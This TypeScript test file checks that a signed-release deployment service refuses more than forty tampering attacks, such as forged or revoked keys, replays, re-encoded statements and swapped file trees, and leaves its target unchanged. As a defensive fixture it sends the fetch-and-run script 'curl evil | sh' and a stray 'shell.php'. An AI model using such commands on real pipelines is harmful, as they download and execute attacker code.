/*
 * Attacks on a project that takes only signed releases: what each does, and the code that refuses it. Each is made over HTTP. After
 * it the target is as it was, and no record says otherwise. docs/signatures.md lists the clauses with their refusals.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { statementType } from '../../lib/base/shared/statement-text.js'
import { envelopeText, sealed } from '../../lib/core/proof/statement.js'
import { readPublicKey } from '../../lib/core/proof/keys.js'
import { minisigned, sshSigned } from '../../lib/core/proof/signature-formats.js'
import { eventsOf, type FormFields } from '../support/client.js'
import { type Stage, startServer } from '../support/server.js'
import { aKey, digestOf, signedBy, statementOf, type TestKey } from '../support/signed-releases.js'
import { zipOf } from '../support/zips.js'
import { top } from '../documents/document.js'

type Files = Record<string, string>
type Sent = ReturnType<typeof signedBy>
type Answer = { status: number; body: any }
type Project = { id: string; token: string }

const files: Files = { 'index.html': 'new', 'app.js': 'let x' }
const before: Files = { 'index.html': 'old' }
const day = 86_400_000
const inDays = (days: number): string => new Date(Date.now() + days * day).toISOString()
const bom = '{"bomFormat":"CycloneDX"}'

/** A project with its keys. `ana` and `bo` are trusted, `mallory` is not. */
interface Scene {
  stage: Stage
  shop: Project
  ana: TestKey
  bo: TestKey
  mallory: TestKey
  /** Ids of the keys. */
  ids: { ana: string; bo: string }
  trust(key: TestKey, more?: object): Promise<Answer>
  sign(patch?: Parameters<typeof statementOf>[2], key?: TestKey): Sent
  push(sent: Sent | null, more?: { fields?: FormFields; to?: Project; contents?: Files }): Promise<Answer>
  /** Deploys a release, as its owner does. Returns its id. */
  deploy(sent: Sent, contents?: Files, to?: Project): Promise<string>
  policy(signatures: object, of?: Project): Promise<void>
}

interface Attack {
  clause: string
  does: string
  code: string
  act(scene: Scene): Promise<Answer>
}

let number = 0

async function sceneOf(stage: Stage): Promise<Scene> {
  const { client, as } = stage
  const mark = `x${number++}x`
  const [ana, bo, mallory] = ['ana', 'bo', 'mallory'].map(name => aKey(`${name} ${mark}`)) as [
    TestKey,
    TestKey,
    TestKey
  ]
  const shop = (await stage.createProject(`shop-${mark}`)) as Project
  const trust: Scene['trust'] = ({ row }, more = {}) =>
    client.post('/api/signing-keys', { public: row.public, name: row.name, ...more })
  const push: Scene['push'] = async (sent, { fields = [], to = shop, contents = files } = {}) => {
    const signed: FormFields = sent === null ? [] : [['statement', sent.statement]]
    const signatures = (sent?.signatures ?? []).map((text): [string, string] => ['signature', text])
    const file = { filename: 'a.zip', bytes: await zipOf(contents) }
    return as(to.token).upload([['projectId', to.id], ...signed, ...signatures, ...fields, ['file', file]])
  }
  const policy: Scene['policy'] = async (signatures, of = shop) =>
    void (await client.put(`/api/projects/${of.id}`, { policy: { signatures: { require: 'refuse', ...signatures } } }))
  const deploy: Scene['deploy'] = async (sent, contents = files, to = shop) => {
    const end = eventsOf((await push(sent, { contents, to })) as never).pop()
    if (end?.status !== 'success') throw new Error(`The stage is not laid: ${JSON.stringify(end)}`)
    return end.deployId
  }
  if (eventsOf((await push(null, { contents: before })) as never).pop()?.status !== 'success')
    throw new Error('no stage')
  const ids = { ana: (await trust(ana)).body.key.id, bo: (await trust(bo)).body.key.id }
  await policy({})
  const sign: Scene['sign'] = (patch = {}, key = ana) => signedBy(statementOf(shop.id, files, patch), key)
  return { stage, shop, ana, bo, mallory, ids, trust, sign, push, deploy, policy }
}

/** Returns the key as OpenSSH writes it. */
function inSsh({ row }: TestKey): string {
  const spki = readPublicKey(row.public).key.export({ type: 'spki', format: 'der' }).subarray(12)
  const head = Buffer.from('0000000b7373682d6564323535313900000020', 'hex')
  return `ssh-ed25519 ${Buffer.concat([head, spki]).toString('base64')}`
}

/** Returns the key as minisign writes it. */
function inMinisign({ row }: TestKey, keyId: Buffer): string {
  const spki = readPublicKey(row.public).key.export({ type: 'spki', format: 'der' }).subarray(12)
  return Buffer.concat([Buffer.from('Ed'), keyId, spki]).toString('base64')
}

const edited = (sent: Sent, change: (statement: string) => string): Sent => ({
  ...sent,
  statement: change(sent.statement)
})
const enveloped = (statement: string, type: string, payload: string, { privateKey }: TestKey): Sent => ({
  statement,
  signatures: [envelopeText(sealed(type, Buffer.from(payload), [privateKey]))]
})
const other = 'proj_stagingstagingaa'
const env = (value: object): FormFields => [['env', JSON.stringify(value)]]
const listed = (text: string): FormFields => [['sbom', { filename: 'sbom.json', bytes: Buffer.from(text) }]]
/** Another project with the same rule. */
async function another({ stage, policy }: Scene, signatures = {}): Promise<Project> {
  const made = (await stage.createProject(`other-${number++}`)) as Project
  await policy(signatures, made)
  return made
}

const attacks: Attack[] = [
  ...of('no signature', [
    ['sends nothing signed', 'signature_missing', ({ push }) => push(null)],
    ['leaves the signature out', 'signature_missing', ({ push, sign }) => push({ ...sign(), signatures: [] })],
    [
      'rolls back to a release that nobody signed',
      'signature_missing',
      async ({ stage, shop, deploy, sign }) => {
        await deploy(sign())
        const rows = (await stage.client.get(`/api/logs?projectId=${shop.id}`)).body as Array<{
          id: string
          signedBy: []
        }>
        return stage.client.post(`/api/deployments/${rows.find(row => row.signedBy.length === 0)?.id}/rollback`, {})
      }
    ],
    [
      'goes back exactly to a release that nobody signed',
      'signature_missing',
      async ({ stage, shop, deploy, sign }) => {
        await deploy(sign())
        const rows = (await stage.client.get(`/api/logs?projectId=${shop.id}`)).body as Array<{
          id: string
          signedBy: []
        }>
        const { id } = rows.find(row => row.signedBy.length === 0) as { id: string }
        return stage.client.post(`/api/deployments/${id}/rollback`, { mode: 'exact' })
      }
    ],
    [
      'undoes the first signed release',
      'signature_missing',
      async ({ stage, shop, deploy, sign }) => {
        await deploy(sign())
        return stage.client.post(`/api/projects/${shop.id}/undo`, {})
      }
    ]
  ]),
  ...of('unknown key', [
    [
      'signs with a key that nobody trusts',
      'signature_unknown_key',
      ({ push, sign, mallory }) => push(sign({}, mallory))
    ],
    [
      'signs with a key that the policy does not name',
      'signature_unknown_key',
      async ({ push, sign, policy, ids }) => {
        await policy({ keys: [ids.bo] })
        return push(sign())
      }
    ],
    [
      'signs with another key, and names a trusted one',
      'signature_bad',
      ({ push, sign, ana, mallory }) => {
        const { statement, signatures } = sign({}, mallory)
        return push({
          statement,
          signatures: [(signatures[0] as string).replace(mallory.row.fingerprint, ana.row.fingerprint)]
        })
      }
    ],
    [
      'signs with a trusted key, and does not name it',
      'signature_unknown_key',
      ({ push, sign, ana }) => {
        const { statement, signatures } = sign()
        return push({ statement, signatures: [(signatures[0] as string).replace(ana.row.fingerprint, '')] })
      }
    ],
    [
      'adds a forged signature to a good one',
      'signature_bad',
      ({ push, sign, shop, bo }) => {
        const forged = signedBy(statementOf(shop.id, before), bo).signatures
        return push({ ...sign(), signatures: [...sign().signatures, ...forged] })
      }
    ],
    [
      'signs as SSH with a key that is trusted for another tool',
      'signature_unknown_key',
      ({ push, sign, ana }) => {
        const { statement } = sign()
        return push({ statement, signatures: [sshSigned(Buffer.from(statement), ana.privateKey)] })
      }
    ],
    [
      'takes the id of a trusted key of minisign',
      'signature_bad',
      async ({ push, sign, trust, bo, mallory }) => {
        const keyId = Buffer.from('01234567')
        const row = { ...bo.row, public: inMinisign(bo, keyId), name: `${bo.row.name} of minisign` }
        await trust({ ...bo, row })
        const { statement } = sign()
        const text = minisigned(Buffer.from(statement), { key: mallory.privateKey, keyId }, 'timestamp:1')
        return push({ statement, signatures: [text] })
      }
    ]
  ]),
  ...of('other project', [
    [
      'sends a release that was signed for staging',
      'signature_other_project',
      ({ push, ana }) => push(signedBy(statementOf(other, files), ana))
    ],
    [
      'writes the project into a signed statement',
      'signature_bad',
      ({ push, ana, shop }) =>
        push(edited(signedBy(statementOf(other, files), ana), text => text.replace(other, shop.id)))
    ],
    [
      'signs with a key of another project',
      'signature_unknown_key',
      async scene => {
        const { id } = await another(scene)
        await scene.trust(scene.mallory, { projectIds: [id] })
        return scene.push(scene.sign({}, scene.mallory))
      }
    ],
    [
      'promotes a release that was signed for staging only',
      'signature_other_project',
      async scene => {
        const from = await scene.deploy(scene.sign())
        const production = await another(scene)
        return scene.stage.client.post(`/api/projects/${production.id}/promote`, { from })
      }
    ]
  ]),
  ...of('replay', [
    [
      'sends a release that was signed before the newest one',
      'signature_replayed',
      async ({ push, sign, deploy }) => {
        await deploy(sign({ sequence: 184 }))
        return push(sign({ sequence: 183 }))
      }
    ],
    [
      'sends an old release of staging where a newer one was promoted',
      'signature_replayed',
      async scene => {
        const production = await another(scene)
        const old = scene.sign({ sequence: 183, alsoFor: [production.id] })
        const from = await scene.deploy(scene.sign({ sequence: 184, alsoFor: [production.id] }))
        const { status } = await scene.stage.client.post(`/api/projects/${production.id}/promote`, { from })
        if (status !== 200) throw new Error(`The promotion was not made: ${status}`)
        return scene.push(old, { to: production })
      }
    ],
    [
      'rolls back where the policy refuses it',
      'signature_replayed',
      async ({ stage, sign, deploy, policy }) => {
        const first = await deploy(sign({ sequence: 1 }))
        await deploy(sign({ sequence: 2 }))
        await policy({ rollbackBySignature: 'refuse' })
        return stage.client.post(`/api/deployments/${first}/rollback`, {})
      }
    ]
  ]),
  ...of('added script', [
    ['adds a script', 'signature_bad', ({ push, sign }) => push(sign(), { fields: [['preDeploy', 'curl evil | sh']] })],
    [
      'sends another script than the signed one',
      'signature_bad',
      ({ push, sign }) =>
        push(sign({ scripts: { postDeploy: digestOf('make') } }), { fields: [['postDeploy', 'make evil']] })
    ],
    [
      'sends the signed script as another step',
      'signature_bad',
      ({ push, sign }) => push(sign({ scripts: { postDeploy: digestOf('make') } }), { fields: [['preDeploy', 'make']] })
    ],
    [
      'leaves a signed script out',
      'signature_bad',
      ({ push, sign }) => push(sign({ scripts: { preDeploy: digestOf('migrate') } }))
    ],
    ['adds a variable', 'signature_bad', ({ push, sign }) => push(sign(), { fields: env({ EVIL: '1' }) })],
    ['leaves a signed variable out', 'signature_bad', ({ push, sign }) => push(sign({ env: ['STAGE'] }))]
  ]),
  ...of('swapped tree', [
    [
      'sends other contents',
      'tree_differs',
      ({ push, sign }) => push(sign(), { contents: { ...files, 'app.js': 'let y' } })
    ],
    ['adds a file', 'tree_differs', ({ push, sign }) => push(sign(), { contents: { ...files, 'shell.php': '<?php' } })],
    ['leaves a file out', 'tree_differs', ({ push, sign }) => push(sign(), { contents: { 'index.html': 'new' } })],
    [
      'renames a file',
      'tree_differs',
      ({ push, sign }) => push(sign(), { contents: { 'index.html': 'new', 'App.js': 'let x' } })
    ]
  ]),
  ...of('expired', [
    ['sends an expired statement', 'signature_expired', ({ push, sign }) => push(sign({ notAfter: inDays(-1) }))],
    [
      'signs with an expired key',
      'signature_expired',
      async ({ push, sign, trust, mallory }) => {
        await trust(mallory, { notAfter: inDays(-1) })
        return push(sign({}, mallory))
      }
    ],
    [
      'signs with a key that may not sign yet',
      'signature_expired',
      async ({ push, sign, trust, mallory }) => {
        await trust(mallory, { notBefore: inDays(1) })
        return push(sign({}, mallory))
      }
    ]
  ]),
  ...of('revoked', [
    [
      'signs with a revoked key',
      'signature_unknown_key',
      async ({ stage, ids, push, sign }) => {
        await stage.client.post(`/api/signing-keys/${ids.ana}/revoke`, {})
        return push(sign())
      }
    ],
    [
      'rolls back to what was signed after the key had leaked',
      'signature_unknown_key',
      async ({ stage, ids, bo, sign, deploy }) => {
        const leaked = await deploy(sign({ sequence: 1 }))
        await deploy(sign({ sequence: 2 }, bo))
        await stage.client.post(`/api/signing-keys/${ids.ana}/revoke`, { since: inDays(-1) })
        return stage.client.post(`/api/deployments/${leaked}/rollback`, {})
      }
    ]
  ]),
  ...of('below threshold', [
    ['signs once', 'signature_below_threshold', two(({ sign }) => sign())],
    [
      'signs twice with one key',
      'signature_below_threshold',
      two(({ sign }) => ({ ...sign(), signatures: [...sign().signatures, ...sign().signatures] }))
    ],
    [
      'signs with one key in the forms of two tools',
      'signature_below_threshold',
      two(async ({ sign, trust, ana }) => {
        await trust({ ...ana, row: { ...ana.row, public: inSsh(ana), name: `${ana.row.name} in ssh` } })
        const { statement, signatures } = sign()
        return { statement, signatures: [...signatures, sshSigned(Buffer.from(statement), ana.privateKey)] }
      })
    ],
    [
      'adds a signature of an unknown key',
      'signature_below_threshold',
      two(({ shop, ana, mallory }) => signedBy(statementOf(shop.id, files), ana, mallory))
    ]
  ]),
  ...of('confusing name', [
    [
      'trusts a key as one that looks the same',
      'key_name_taken',
      named(name => name.toUpperCase().replace('ANA', 'AN A'))
    ],
    ['trusts a key with a letter of another alphabet', 'invalid_field', named(name => name.replace('ana', 'аna'))],
    [
      'trusts a key twice, under two names',
      'key_trusted',
      ({ trust, ana }) => trust({ ...ana, row: { ...ana.row, name: 'somebody else' } })
    ]
  ]),
  ...of('namespace', [
    [
      'sends an SSH signature that was made for another purpose',
      'signature_bad',
      async ({ push, sign, trust, ana }) => {
        await trust({ ...ana, row: { ...ana.row, public: inSsh(ana), name: `${ana.row.name} in ssh` } })
        const { statement } = sign()
        const text = sshSigned(Buffer.from(statement), ana.privateKey)
        const blob = Buffer.from(text.split('\n').slice(1, -2).join(''), 'base64')
        blob.write('svc-attest', blob.indexOf('svc-deploy'))
        return push({
          statement,
          signatures: [`-----BEGIN SSH SIGNATURE-----\n${blob.toString('base64')}\n-----END SSH SIGNATURE-----\n`]
        })
      }
    ],
    [
      'sends an envelope around another type',
      'signature_bad',
      ({ push, sign, ana }) => push(enveloped(sign().statement, 'application/json', sign().statement, ana))
    ],
    [
      'changes the type of an envelope',
      'signature_bad',
      ({ push, sign, ana }) => {
        const sent = enveloped(sign().statement, 'application/json', sign().statement, ana)
        return push({
          ...sent,
          signatures: sent.signatures.map(text => text.replace('application/json', statementType))
        })
      }
    ],
    [
      'signs an older type of statement',
      'signature_bad',
      ({ push, ana, shop }) =>
        push(signedBy(statementOf(shop.id, files).replace('Statement/v1', 'Statement/v0.1'), ana))
    ],
    [
      'signs two trees in one statement',
      'signature_bad',
      ({ push, ana, shop }) => {
        const second = `{"name":"x","digest":{"sha256":"${digestOf('x')}"}}`
        return push(signedBy(statementOf(shop.id, files).replace('"subject":[', `"subject":[${second},`), ana))
      }
    ],
    [
      'signs a statement that is not about a push',
      'signature_bad',
      ({ push, ana, shop }) =>
        push(signedBy(statementOf(shop.id, files).replace('urn:svc:push:v1', 'urn:svc:other:v1'), ana))
    ]
  ]),
  ...of('other encoding', [
    ['adds a space to the statement', 'signature_bad', ({ push, sign }) => push(edited(sign(), text => `${text} `))],
    [
      'raises the sequence of a signed statement',
      'signature_bad',
      ({ push, sign }) => push(edited(sign(), text => text.replace('"sequence":100', '"sequence":900')))
    ],
    [
      'takes the signature of another statement',
      'signature_bad',
      ({ push, sign, shop, ana }) =>
        push({ ...sign(), signatures: signedBy(statementOf(shop.id, before), ana).signatures })
    ],
    [
      'writes a letter as an escape',
      'signature_bad',
      ({ push, sign }) => push(edited(sign(), text => text.replace('shop', '\\u0073hop')))
    ],
    [
      'adds a mark of the byte order',
      'signature_bad',
      ({ push, sign }) => push(edited(sign(), text => `\ufeff${text}`))
    ],
    [
      'signs two projects under one key of JSON',
      'signature_bad',
      ({ push, ana, shop }) =>
        push(
          signedBy(
            statementOf(other, files).replace('"projectId":', `"projec\\u0074Id":"${shop.id}","projectId":`),
            ana
          )
        )
    ],
    [
      'puts another statement into the envelope',
      'signature_bad',
      ({ push, sign, ana, shop }) => push(enveloped(sign().statement, statementType, statementOf(shop.id, before), ana))
    ]
  ]),
  ...of('components', [
    ['leaves the signed list out', 'signature_bad', ({ push, sign }) => push(sign({ sbomSha256: digestOf(bom) }))],
    [
      'sends a list with the same meaning and other bytes',
      'signature_bad',
      ({ push, sign }) => push(sign({ sbomSha256: digestOf(bom) }), { fields: listed(`${bom} `) })
    ],
    [
      'sends no list where one is asked for',
      'sbom_missing',
      async ({ push, sign, policy }) => {
        await policy({ sbom: 'require' })
        return push(sign())
      }
    ]
  ])
]

function of(clause: string, rows: ReadonlyArray<[does: string, code: string, act: Attack['act']]>): Attack[] {
  return rows.map(([does, code, act]) => ({ clause, does, code, act }))
}

/** Pushes to a project that asks for two signatures. */
function two(sent: (scene: Scene) => Sent | Promise<Sent>): Attack['act'] {
  return async scene => {
    await scene.policy({ threshold: 2 })
    return scene.push(await sent(scene))
  }
}

/** Trusts a key under the name of another. */
function named(change: (name: string) => string): Attack['act'] {
  return ({ trust, ana, mallory }) => trust({ ...mallory, row: { ...mallory.row, name: change(ana.row.name) } })
}

t.test('each attack is refused with its code, and the target stays as it was', async t => {
  const stage = await startServer(t)
  t.ok(attacks.length >= 40, `${attacks.length} attacks`)
  for (const { clause, does, code, act } of attacks) {
    const scene = await sceneOf(stage)
    const { shop } = scene
    const target = join(stage.sites, readdirSync(stage.sites).find(name => name.includes(`x${number - 1}x`)) as string)
    const look = () => readdirSync(target, { recursive: true }).map(path => [path, textOf(join(target, String(path)))])
    const rows = async () =>
      (await stage.client.get(`/api/logs?projectId=${shop.id}`)).body as Array<{ id: string; status: string }>
    // What the stage of an attack deploys ends before its last request.
    let was: unknown
    const counted = counting(scene, async () => {
      was = [look(), await rows()]
    })
    const answer = await act(counted)
    const name = `${clause}: ${does}`
    const left = readdirSync(stage.home.tmp)
    t.strictSame(left, [], `${name}: nothing is left of it`)
    const [lookedAt, known] = was as [unknown, unknown[]]
    t.strictSame(look(), lookedAt, `${name}: the target is as it was`)
    const now = await rows()
    if (code === 'tree_differs') {
      t.match(eventsOf(answer as never).pop(), { status: 'failed' }, name)
      t.equal(now.length, known.length + 1)
      t.match(
        now[0],
        { status: 'failed', placed: null, errorMessage: /does not contain the files that were signed/ },
        name
      )
    } else {
      t.match(answer, { body: { code } }, name)
      t.match(answer.status, /^4/, name)
      t.strictSame(now, known, `${name}: there is no record of it`)
    }
  }
})

/** Calls `look` before each request that may be the last one of an attack. */
function counting(scene: Scene, look: () => Promise<void>): Scene {
  const { client } = scene.stage
  const post: typeof client.post = async (...given) => {
    await look()
    return client.post(...given)
  }
  return {
    ...scene,
    stage: { ...scene.stage, client: { ...client, post } as never },
    async push(...given) {
      await look()
      return scene.push(...given)
    },
    async trust(...given) {
      await look()
      return scene.trust(...given)
    }
  }
}

function textOf(path: string): string | null {
  try {
    return readFileSync(path, 'utf8')
  } catch {
    return null
  }
}

t.test('docs/signatures.md names each clause with its refusals', async t => {
  const [, section = ''] = readFileSync(join(top, 'docs/signatures.md'), 'utf8').split('## What is refused\n')
  const rows = (section.split('\n## ')[0] as string).split('\n').filter(line => /^\| \w/.test(line))
  const told = rows
    .map(line => line.split('|').map(cell => cell.trim()))
    .map(([, clause = '', , codes = '']) => [clause, codes.replaceAll('`', '').split(', ').sort()])
    .slice(1)
  const clauses = [...new Set(attacks.map(({ clause }) => clause))]
  const wanted = clauses.map(clause => {
    const codes = attacks.filter(each => each.clause === clause).map(({ code }) => code)
    return [clause, [...new Set(codes)].sort()]
  })
  t.strictSame(told.slice(0, wanted.length), wanted)
})
